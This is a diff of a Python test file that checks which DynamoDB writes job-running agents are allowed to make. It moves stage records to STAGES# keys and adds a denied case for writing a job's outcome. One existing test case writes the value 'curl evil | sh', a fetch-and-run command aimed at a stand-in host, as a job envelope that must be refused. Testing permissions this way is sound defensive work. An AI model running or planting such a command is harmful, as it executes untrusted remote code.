@@ -45,7 +45,7 @@ def test_what_an_agent_does_is_allowed(local_stack):
     table, suffix = local_stack.table_name, secrets.token_hex(3)
     dynamodb, sqs = _as_agent(local_stack, "eu-west", "dynamodb"), _as_agent(local_stack, "eu-west", "sqs")
     sqs.receive_message(QueueUrl=local_stack.work_queues["eu-west"], WaitTimeSeconds=0)
-    dynamodb.get_item(TableName=table, Key={"pk": {"S": f"JOB#{suffix}"}, "sk": {"S": "STAGE#00"}})
+    dynamodb.get_item(TableName=table, Key={"pk": {"S": f"STAGES#{suffix}"}, "sk": {"S": "STAGE#00"}})
     # At its start an agent reads its own presence record (store/agents.take_agent_id).
     dynamodb.get_item(
         TableName=table, Key={"pk": {"S": "AGENTS#eu-west"}, "sk": {"S": f"AGENT#agent-role-{suffix}"}}, ConsistentRead=True
@@ -58,7 +58,7 @@ def test_what_an_agent_does_is_allowed(local_stack):
     never = {"ConditionExpression": "attribute_exists(pk) AND attribute_not_exists(pk)"}
     for pk, sk in ((f"LOGS#agent-role-{suffix}", "SEQ#000000000000"), ("AGENTS#eu-west", f"AGENT#agent-role-{suffix}")):
         assert refusal_code(lambda: dynamodb.put_item(**_put(table, pk, sk, data="x"), **never)) == "ConditionalCheckFailedException"
-    stage = {"pk": {"S": f"JOB#agent-role-{suffix}"}, "sk": {"S": "STAGE#00"}}
+    stage = {"pk": {"S": f"STAGES#agent-role-{suffix}"}, "sk": {"S": "STAGE#00"}}
     with pytest.raises(ClientError) as raised:  # authorized; then its condition fails
         dynamodb.update_item(
             TableName=table, Key=stage, UpdateExpression="SET #s = :s, lease_expires_at = :l",
@@ -102,6 +102,15 @@ def test_what_an_agent_does_is_allowed(local_stack):
             lambda t, s: ("update_item", {"TableName": t, "Key": {"pk": {"S": f"JOB#j-{s}"}, "sk": {"S": "JOB"}},
                                           "UpdateExpression": "SET envelope = :e", "ExpressionAttributeValues": {":e": {"S": "curl evil | sh"}}}),
             "Attributes",
+        ),
+        (
+            # The job's outcome is the state machine's to write (MarkSucceeded, MarkFailedAfterStage):
+            # a stage record lives in STAGES#<job>, the job record in JOB#<job>, and the agent's
+            # writes reach only the first.
+            "a job's outcome (the stage it last got through)",
+            lambda t, s: ("update_item", {"TableName": t, "Key": {"pk": {"S": f"JOB#j-{s}"}, "sk": {"S": "JOB"}},
+                                          "UpdateExpression": "SET last_successful_stage = :s", "ExpressionAttributeValues": {":s": {"S": "sign"}}}),
+            "LeadingKeys",
         ),
         ("deleting a job", lambda t, s: ("delete_item", {"TableName": t, "Key": {"pk": {"S": f"JOB#j-{s}"}, "sk": {"S": "JOB"}}}), "action"),
     ],
@@ -208,7 +217,7 @@ def test_every_probe_of_doctor_is_harmless(local_stack, monkeypatch):
         )]
     assert all(finding.allowed for finding in findings), [(f.probe.what, f.why) for f in findings if not f.allowed]
     probe = permissions.PROBE_ID
-    for pk, sk in [(f"JOB#{probe}", "STAGE#00"), (f"JOB#{probe}", "JOB"), (f"LOGS#{probe}", "SEQ#000000000000"), (f"ARTIFACTS#{probe}", "probe"),
+    for pk, sk in [(f"STAGES#{probe}", "STAGE#00"), (f"JOB#{probe}", "STAGE#00"), (f"JOB#{probe}", "JOB"), (f"LOGS#{probe}", "SEQ#000000000000"), (f"ARTIFACTS#{probe}", "probe"),
                    ("AGENTS#eu-west", f"AGENT#{probe}"), (f"PROJECT#{probe}", "PROJECT"), (f"PROJECT#{probe}", f"GRANT#{probe}"),
                    (f"LOCK#{probe}", "LOCK"), (f"DEDUP#{probe}", "DEDUP"), ("PAUSES#eu-west", f"PAUSE#{probe}")]:
         assert "Item" not in client("dynamodb").get_item(TableName=local_stack.table_name, Key={"pk": {"S": pk}, "sk": {"S": sk}}), (pk, sk)
